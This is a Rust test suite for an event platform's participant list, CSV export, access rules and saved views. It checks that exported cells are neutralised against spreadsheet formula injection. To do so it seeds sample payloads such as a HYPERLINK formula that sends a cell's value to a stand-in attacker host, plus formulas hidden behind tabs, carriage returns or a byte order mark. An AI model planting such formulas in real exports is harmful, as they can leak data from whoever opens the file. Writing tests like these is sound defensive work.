//! The list of participants, its file, and its saved views.

use jamboree_harness::{Caller, on_server};
use jamboree_tenancy::Role;
use reqwest::Method;
use serde_json::{Value, json};

use crate::{events::path, selling::Sale};

/// Everything that a list shows under a query, page by page.
async fn listed(caller: &Caller, list: &str, query: &str, limit: usize) -> Vec<Value> {
    let (mut rows, mut after) = (Vec::new(), String::new());
    loop {
        let page = caller.get(&format!("{list}?limit={limit}&{query}{after}")).await.expect(200);
        let items = page["items"].as_array().expect("items");
        assert!(items.len() <= limit, "{} rows on a page of {limit}", items.len());
        rows.extend(items.iter().cloned());
        match page["next"].as_str() {
            Some(next) => after = format!("&after={next}"),
            None => return rows,
        }
    }
}

fn escaped(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// A CSV file as RFC 4180 has it, to the letter: rows end with CR LF, quotes stand around whole cells only.
pub fn parsed(file: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(file).expect("UTF-8");
    let (mut rows, mut row, mut letters) = (Vec::new(), Vec::new(), text.chars().peekable());
    while letters.peek().is_some() {
        let mut cell = String::new();
        if letters.next_if_eq(&'"').is_some() {
            loop {
                match letters.next().expect("a closing quote") {
                    '"' if letters.next_if_eq(&'"').is_some() => cell.push('"'),
                    '"' => break,
                    letter => cell.push(letter),
                }
            }
        } else {
            while let Some(letter) = letters.next_if(|letter| !matches!(letter, ',' | '\r' | '\n' | '"')) {
                cell.push(letter);
            }
        }
        row.push(cell);
        match letters.next() {
            Some(',') => {}
            Some('\r') if letters.next() == Some('\n') => rows.push(std::mem::take(&mut row)),
            other => panic!("{other:?} behind the cell {:?}", row.last()),
        }
    }
    assert!(row.is_empty(), "the last row has an end");
    rows
}

/// As a spreadsheet takes it for text: with an apostrophe where it could begin a formula.
fn neutral(text: &str) -> String {
    let opening = text.trim_start_matches([' ', '\n', '"', '\'']);
    if opening.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() }
}

fn names(rows: &[Value]) -> Vec<&str> {
    rows.iter().map(|row| row["name"].as_str().expect("a name")).collect()
}

/// An event with people of every source and state.
struct Crowd {
    sale: Sale,
    guest: String,
    diet: String,
    skills: String,
}

impl Crowd {
    async fn new() -> Self {
        let sale = Sale::open().await;
        let questions = json!([
            { "label": "Diet", "help": "", "kind": "short_text", "options": [], "required": false, "data_class": "special" },
            { "label": "Skills", "help": "", "kind": "choices", "options": ["Rust", "C++"], "required": false, "data_class": "ordinary" },
            { "label": "=1+1 Status", "help": "", "kind": "yes_no", "options": [], "required": false, "data_class": "ordinary" },
            { "label": "status", "help": "", "kind": "number", "options": [], "required": false, "data_class": "ordinary" },
        ]);
        let ids = sale.form(questions, json!([])).await;
        let (diet, skills, agreed, balance) = (&ids[0], &ids[1], &ids[2], &ids[3]);
        let guest = sale.ticket_type("Guest", 0, &[]).await;
        let standard = sale.ticket_type("=Standard", 3500, &[]).await;
        let vegan = json!({ (diet.as_str()): "Vegan", (skills.as_str()): ["Rust", "C++"], (agreed.as_str()): true, (balance.as_str()): -5 });
        sale.add(&guest, "Ada Manual", "ada@example.com", vegan).await;
        let rusty = json!({ (diet.as_str()): "=HYPERLINK(\"http://evil.example\",\"vegan\")", (skills.as_str()): ["Rust"], (agreed.as_str()): false });
        let inside = sale.add(&guest, "Bob Inside", "bob@example.com", rusty).await;
        sale.scan(inside["ticket_code"].as_str().expect("a code"), "bob").await.expect(201);
        sale.buy(&guest, "cy@example.com", 0).await;
        sale.buy(&standard, "waiting@example.com", 3500).await;
        let gone = sale.buy(&guest, "gone@example.com", 0).await;
        let owner = sale.t.owner();
        let cancel = sale.path(&format!("/orders/{}/cancellation", gone["id"].as_str().expect("an id")));
        owner.send(owner.request(Method::POST, &cancel)).await.expect(200);
        let given = sale.add(&guest, "Giver", "giver@example.com", json!({})).await;
        let giver = sale.t.signed_in("giver@example.com", &[]).await;
        let transfer = format!("/api/v1/me/tickets/{}/transfer", given["id"].as_str().expect("an id"));
        giver.post(&transfer, json!({ "name": "Taker", "email": "taker@example.com" })).await.expect(204);
        let import = sale.path(&format!("/participant-imports?ticket_type_id={guest}"));
        let file = "name,email,Diet\nFay Imported,fay@example.com,Vegan\nHal Imported,hal@example.com,\n";
        owner.upload_by(Method::POST, &import, "text/csv", file.into()).await.expect(202);
        sale.t.run_jobs().await;
        let (diet, skills) = (diet.clone(), skills.clone());
        Self { sale, guest, diet, skills }
    }

    async fn list(&self, query: &str) -> Vec<Value> {
        listed(&self.sale.t.owner(), &self.sale.path("/participants"), query, 2).await
    }

    async fn file(&self, query: &str) -> Vec<u8> {
        let answer = self.sale.t.owner().get(&self.sale.path(&format!("/participants.csv?{query}"))).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
        assert!(answer.header("content-disposition").starts_with("attachment; filename*=UTF-8''participants-"));
        answer.bytes
    }

    /// Every filter with the addresses that pass it.
    fn filters(&self) -> Vec<(String, Vec<&'static str>)> {
        let all = vec!["ada", "bob", "cy", "waiting", "gone", "giver", "taker", "fay", "hal"];
        vec![
            (String::new(), all),
            ("q=IMPORTED".to_owned(), vec!["fay", "hal"]),
            ("q=WAITING%40".to_owned(), vec!["waiting"]),
            ("q=%25".to_owned(), vec![]),
            ("q=_".to_owned(), vec![]),
            ("status=registered".to_owned(), vec!["ada", "cy", "taker", "fay", "hal"]),
            ("status=checked_in".to_owned(), vec!["bob"]),
            ("status=waiting".to_owned(), vec!["waiting"]),
            ("status=cancelled".to_owned(), vec!["gone"]),
            ("status=transferred".to_owned(), vec!["giver"]),
            (format!("ticket_type={}&status=registered", self.guest), vec!["ada", "cy", "taker", "fay", "hal"]),
            ("source=registration".to_owned(), vec!["cy", "waiting", "gone"]),
            ("source=manual".to_owned(), vec!["ada", "bob", "giver", "taker"]),
            ("source=import".to_owned(), vec!["fay", "hal"]),
            (format!("answer={}:Vegan", self.diet), vec!["ada", "fay"]),
            (format!("answer={}:Vegan&source=import", self.diet), vec!["fay"]),
            (format!("answer={}:C%2B%2B", self.skills), vec!["ada"]),
            (format!("answer={}:Rust", self.skills), vec!["ada", "bob"]),
            (format!("answer={}:Ru", self.skills), vec![]),
        ]
    }
}

fn addresses(rows: &[Value]) -> Vec<&str> {
    let mut found: Vec<&str> =
        rows.iter().map(|row| row["email"].as_str().expect("an address").trim_end_matches("@example.com")).collect();
    found.sort_unstable();
    found
}

#[test]
fn the_list_is_narrowed_by_every_filter_and_comes_in_pages_of_every_order() {
    on_server(async {
        let crowd = Crowd::new().await;
        for (query, mut expected) in crowd.filters() {
            expected.sort_unstable();
            assert_eq!(addresses(&crowd.list(&query).await), expected, "{query}");
        }
        let code =
            crowd.sale.participant("bob@example.com").await["ticket_code"].as_str().expect("a code").to_lowercase();
        let typed = format!("q={}-{}", &code[..5], &code[5..]);
        assert_eq!(addresses(&crowd.list(&typed).await), ["bob"], "{typed}");
        let oldest = crowd.list("sort=registered_at").await;
        let mut newest = crowd.list("sort=-registered_at").await;
        assert_eq!(crowd.list("").await, newest, "newest first unless it is said otherwise");
        newest.reverse();
        assert_eq!(oldest, newest);
        let by_name = crowd.list("sort=name").await;
        let mut down = crowd.list("sort=-name").await;
        down.reverse();
        assert_eq!(by_name, down);
        let mut sorted = names(&by_name);
        sorted.sort_by_key(|name| name.to_lowercase());
        assert_eq!(names(&by_name), sorted);
        for wrong in ["answer=Vegan", "answer=:x", "status=lost", "ticket_type=x", "sort=age", "limit=0", "after=x"] {
            let answer = crowd.sale.t.owner().get(&crowd.sale.path(&format!("/participants?{wrong}"))).await;
            assert_eq!(answer.status, 422, "{wrong}: {}", answer.text);
        }
    });
}

#[test]
fn the_file_is_the_list_with_answers_as_columns() {
    on_server(async {
        let crowd = Crowd::new().await;
        for (query, _) in crowd.filters() {
            for sort in ["", "&sort=name"] {
                let query = format!("{query}{sort}");
                let list = crowd.list(&query).await;
                let mut file = parsed(&crowd.file(&query).await).into_iter();
                let header = file.next().expect("a header");
                assert_eq!(header[10..], ["Diet", "Skills", "'=1+1 Status", "status (2)"], "{header:?}");
                let file: Vec<Vec<String>> = file.collect();
                assert_eq!(file.len(), list.len(), "{query}");
                for (row, shown) in file.iter().zip(&list) {
                    let text = |value: &Value| neutral(value.as_str().unwrap_or_default());
                    let expected = [
                        text(&shown["name"]),
                        text(&shown["email"]),
                        text(&shown["status"]),
                        text(&shown["ticket_type"]["name"]),
                        text(&shown["ticket_code"]),
                        text(&shown["order"]["code"]),
                        text(&shown["source"]),
                    ];
                    assert_eq!(row[..7], expected, "{query}");
                    let moment = |cell: &str| {
                        chrono::DateTime::parse_from_rfc3339(cell).map(|at| at.timestamp()).expect("a moment")
                    };
                    assert_eq!(moment(&row[7]), moment(shown["registered_at"].as_str().expect("a moment")));
                    match shown["checked_in_at"].as_str() {
                        Some(at) => assert_eq!(moment(&row[8]), moment(at)),
                        None => assert_eq!(row[8], ""),
                    }
                    assert_eq!(row[9], text(&shown["locale"]));
                    assert_eq!(row.len(), header.len());
                }
            }
        }
        let file = parsed(&crowd.file("source=manual&sort=registered_at").await);
        assert_eq!(file[1][10..], ["Vegan", "Rust; C++", "yes", "'-5"]);
        assert_eq!(file[2][10..], ["'=HYPERLINK(\"http://evil.example\",\"vegan\")", "Rust", "no", ""]);
        assert_eq!(file[3][10..], ["", "", "", ""]);
    });
}

#[test]
fn no_cell_is_a_formula_and_every_other_letter_stays() {
    on_server(async {
        let sale = Sale::open().await;
        let kind = sale.ticket_type("Guest", 0, &[]).await;
        let long = "é".repeat(200);
        let kept = [
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "+1",
            "-1",
            "@SUM(A1:A9)",
            "مرحبا بالعالم",
            "\u{202e}right to left\u{202c}",
            "👩‍👩‍👧 Zoë 🙂",
            "ɐɯɐ˥ ǝɔɐɹ⅁",
            &long,
            "Zoë \"Zo\" O'Hara, MSc; PhD",
            "two\nlines",
            "three\r\nlines, \"quoted\"",
            "1-2=-1",
            "Ꙁ̈́̈́̈",
            "'already quoted",
        ];
        for (number, name) in kept.iter().enumerate() {
            let added = sale.add(&kind, name, &format!("person{number:02}@example.com"), json!({})).await;
            assert_eq!(added["name"], *name, "kept as it was given");
        }
        // What our own operations do not let in may be there from elsewhere.
        let smuggled = ["\t=1+1", "\r=1+1", "  =1+1", " \n@SUM(A1)", "x\r=1", "\u{feff}=1", "  leading", "＝1+1"];
        for (number, name) in smuggled.iter().enumerate() {
            let email = format!("smuggled{number:02}@example.com");
            sale.add(&kind, "Plain", &email, json!({})).await;
            let values = vec![(*name).into(), email.into()];
            sale.write("UPDATE participants SET name = $1 WHERE email = $2", values).await;
        }
        let answer = sale.t.owner().get(&sale.path("/participants.csv?sort=registered_at")).await;
        let rows = parsed(&answer.bytes);
        assert_eq!(rows.len(), 1 + kept.len() + smuggled.len());
        let dangerous = [0, 1, 2, 3, 15, 16, 17, 18, 20, 22];
        for (number, (row, name)) in rows[1..].iter().zip(kept.iter().chain(&smuggled)).enumerate() {
            if dangerous.contains(&number) {
                assert_eq!(row[0], format!("'{name}"), "row {number}");
            } else {
                assert_eq!(row[0], *name, "row {number}");
            }
        }
    });
}

#[test]
fn a_byte_order_mark_is_there_when_asked_for_and_each_export_is_told_once() {
    on_server(async {
        let crowd = Crowd::new().await;
        let told = async || {
            let entries = crowd.sale.t.owner().get("/api/v1/audit-entries?action=participants.exported").await;
            entries.expect(200)["items"].as_array().expect("items").clone()
        };
        crowd.list("").await;
        assert!(told().await.is_empty(), "looking is no export");
        let plain = crowd.file("status=registered").await;
        let entries = told().await;
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0]["detail"]["filter"]["status"], "registered", "{}", entries[0]);
        let marked = crowd.file("status=registered&bom=true").await;
        assert_eq!(marked[..3], [0xef, 0xbb, 0xbf]);
        assert_eq!(marked[3..], plain[..]);
        assert_ne!(plain[..3], [0xef, 0xbb, 0xbf]);
        assert_eq!(crowd.file("status=registered&bom=false").await, plain);
        assert_eq!(told().await.len(), 3);
        // A file without rows has its header, and a wrong filter is no file.
        assert_eq!(parsed(&crowd.file("q=nobody-is-called-so").await).len(), 1);
        let wrong = crowd.sale.t.owner().get(&crowd.sale.path("/participants.csv?answer=x")).await;
        wrong.expect_problem(422, "invalid_parameter");
        assert_eq!(told().await.len(), 4);
    });
}

#[test]
fn a_host_sees_the_people_of_their_event_and_takes_no_file() {
    on_server(async {
        let crowd = Crowd::new().await;
        let (sale, owner) = (&crowd.sale, crowd.sale.t.owner());
        let other = sale.t.draft("Another Hack").await;
        let kind = json!({
            "name": "Guest", "description": "", "price": { "amount_minor": 0, "currency": "EUR" }, "tax_rate_bp": 0,
            "max_per_order": 5, "hidden": false, "quota_ids": [],
        });
        let kind = owner.post(&path(&other, "/ticket-types"), kind).await.expect(201);
        let person = json!({
            "name": "Elsewhere", "email": "elsewhere@example.com", "ticket_type_id": kind["id"], "locale": null,
            "answers": {}, "send_mail": false,
        });
        let elsewhere = owner.post(&path(&other, "/participants"), person).await.expect(201);
        let host = sale.t.member(Role::Host, Some(sale.event_uuid())).await;
        let seen = listed(&host, &sale.path("/participants"), "", 50).await;
        assert_eq!(seen, crowd.list("").await);
        assert!(seen.iter().all(|row| row["name"] != "Elsewhere"));
        host.get(&sale.path("/participants.csv")).await.expect_problem(403, "forbidden");
        host.get(&path(&other, "/participants")).await.expect_problem(404, "not_found");
        let id = elsewhere["id"].as_str().expect("an id");
        host.get(&sale.path(&format!("/participants/{id}"))).await.expect_problem(404, "not_found");
        assert!(!matches!(host.get(&path(&other, "/participants.csv")).await.status, 200..=299));
        // Whose event it is not, sees nothing; a filter of another event's question finds nobody.
        let stranger = Sale::open().await;
        stranger.t.owner().get(&sale.path("/participants")).await.expect_problem(404, "not_found");
        stranger.t.owner().get(&sale.path("/participants.csv")).await.expect_problem(404, "not_found");
        let foreign = format!("{}?answer={}:Vegan", path(&other, "/participants"), crowd.diet);
        assert_eq!(owner.get(&foreign).await.expect(200)["items"], json!([]));
        let judge = sale.t.member(Role::Judge, Some(sale.event_uuid())).await;
        judge.get(&sale.path("/participants")).await.expect_problem(403, "forbidden");
        sale.t.visitor().get(&sale.path("/participants.csv")).await.expect_problem(401, "sign_in_required");
    });
}

#[test]
fn a_view_is_saved_found_again_and_has_a_name_of_its_own() {
    on_server(async {
        let crowd = Crowd::new().await;
        let (sale, owner) = (&crowd.sale, crowd.sale.t.owner());
        let views = sale.path("/saved-views");
        let view = |list: &str, name: &str, query: &str| json!({ "list": list, "name": name, "query": query });
        let query = format!("answer={}:{}&sort=name", crowd.diet, escaped("Vegan"));
        let saved = owner.post(&views, view("participants", "Vegans", &format!("?{query}"))).await.expect(201);
        assert_eq!(saved["query"], query.as_str(), "without the question mark");
        assert_eq!(addresses(&crowd.list(saved["query"].as_str().expect("a query")).await), ["ada", "fay"]);
        for name in ["Vegans", "vegans", " VEGANS "] {
            let twice = owner.post(&views, view("participants", name, "")).await;
            assert_eq!(twice.pointers(), ["/name"], "{name:?}");
            twice.expect_problem(409, "conflict");
        }
        owner.post(&views, view("orders", "Vegans", "status=paid")).await.expect(201);
        for (name, query) in [("", ""), ("   ", ""), ("x", "a\nb"), ("x", &"x".repeat(2001)), (&"x".repeat(81), "")] {
            owner.post(&views, view("participants", name, query)).await.expect_problem(422, "invalid_body");
        }
        let count = async |caller: &Caller, of: &str| {
            caller.get(&format!("{views}{of}")).await.expect(200)["items"].as_array().map(Vec::len)
        };
        assert_eq!(count(&owner, "").await, Some(2));
        assert_eq!(count(&owner, "?list=participants").await, Some(1));
        let host = sale.t.member(Role::Host, Some(sale.event_uuid())).await;
        assert_eq!(count(&host, "?list=orders").await, Some(1), "everybody who sees the list sees its views");
        host.post(&views, view("participants", "Mine", "")).await.expect_problem(403, "forbidden");
        let one = format!("{views}/{}", saved["id"].as_str().expect("an id"));
        host.delete(&one).await.expect_problem(403, "forbidden");
        // Not through another event, and not from another portal.
        let other = sale.t.draft("Another Hack").await;
        let through = path(&other, &format!("/saved-views/{}", saved["id"].as_str().expect("an id")));
        owner.delete(&through).await.expect_problem(404, "not_found");
        Sale::open().await.t.owner().delete(&one).await.expect_problem(404, "not_found");
        assert_eq!(count(&owner, "").await, Some(2));
        owner.delete(&one).await.expect(204);
        owner.delete(&one).await.expect_problem(404, "not_found");
        assert_eq!(count(&owner, "?list=participants").await, Some(0));
        owner.post(&views, view("participants", "Vegans", "")).await.expect(201);
    });
}
